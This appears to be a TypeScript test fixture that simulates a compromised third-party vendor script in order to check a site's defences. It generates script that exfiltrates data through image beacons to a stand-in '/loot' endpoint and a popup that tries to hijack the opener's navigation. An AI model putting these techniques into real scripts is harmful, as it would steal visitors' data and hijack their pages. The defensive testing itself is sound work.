import { recordShape } from '../../../scripts/support/record-shape.ts'
import { thirdParties } from '../../support/providers/answers.ts'
import { providerOrigin } from '../../support/providers/configuration.ts'
import type { Attempt } from './attempt.ts'

export interface Answer {
  contentType: string
  body: string
}

export type Part = 'pricing' | 'exam'

/** The document of the vendor's window, which makes its attempt and then reports that it has. */
const popup = `<!doctype html><title>Popup</title><script>
for (const take of [
  () => { opener.top.location = '${providerOrigin}/taken' },
  () => { opener.parent.location = '${providerOrigin}/taken' },
  () => { opener.top.location.replace('${providerOrigin}/taken') },
]) try { take() } catch {}
new Image().src = '${providerOrigin}/loot?by=done'
</script>`

/**
 * A vendor that has become hostile: its scripts work as before and make attempts as well. What they steal arrives at
 * the vendor's own server, which the vendor's document may reach.
 */
export function hostileVendor() {
  let script = ''
  let loot: { by: string; text: string }[] = []
  return {
    /** Makes its scripts try these attempts from now on, one after the other, and forgets what was stolen before. */
    turn: (tried: readonly Attempt[]) => {
      script = scriptOf(tried)
      loot = []
    },
    lootOf: (name: string) =>
      loot
        .filter(({ by }) => by === name)
        .map(({ text }) => text)
        .join('\n'),
    /** Whether the visitor's click has reached its script. */
    isClicked: () => loot.some(({ by }) => by === 'clicked'),
    /** Whether its script has tried everything. */
    isDone: () => loot.some(({ by }) => by === 'done'),
    /** The answer at an address of its origin. */
    answer(address: string): Answer {
      const { pathname, searchParams } = new URL(address)
      const code = (body: string) => ({ contentType: 'text/javascript', body })
      if (pathname === '/pricing-table.js') return code(script + thirdParties.pricing.works)
      if (pathname === '/exam-widget.js') return code(script + thirdParties.exam.works)
      if (pathname === '/dates.js') return code('window.moment = () => undefined;')
      if (pathname === '/popup') return { contentType: 'text/html', body: popup }
      if (pathname === '/loot') loot.push({ by: searchParams.get('by') ?? '', text: searchParams.get('text') ?? '' })
      return { contentType: 'text/html', body: '<!doctype html><title>Taken</title>' }
    },
  }
}

/**
 * The script that makes the attempts. At the end it sends three more requests before it reports, so that whatever an
 * attempt started has begun by then.
 */
function scriptOf(tried: readonly Attempt[]): string {
  const by = tried.find((attempt) => attempt.by)?.by
  const steps = tried.map(
    ({ name, script }) =>
      `await (async (steal) => { ${script} })((text) => send('${name}', text)).catch(() => undefined)`,
  )
  if (by !== 'popup') steps.push(`for (const word of ['first', 'second', 'done']) await send(word, '')`)
  return `{
  const vendor = '${providerOrigin}'
  const site = document.documentElement.dataset.site ?? location.origin
  const records = site + '/content/${recordShape()}'
  const send = (by, text) => new Promise((resolve) => {
    const image = new Image()
    image.onload = image.onerror = resolve
    image.src = vendor + '/loot?by=' + encodeURIComponent(by) + '&text=' + encodeURIComponent(text)
  })
  const start = async () => {
    ${steps.join('\n    ')}
  }
  ${by ? `addEventListener('click', () => { void send('clicked', ''); void start() }, true)` : 'void start()'}
};`
}
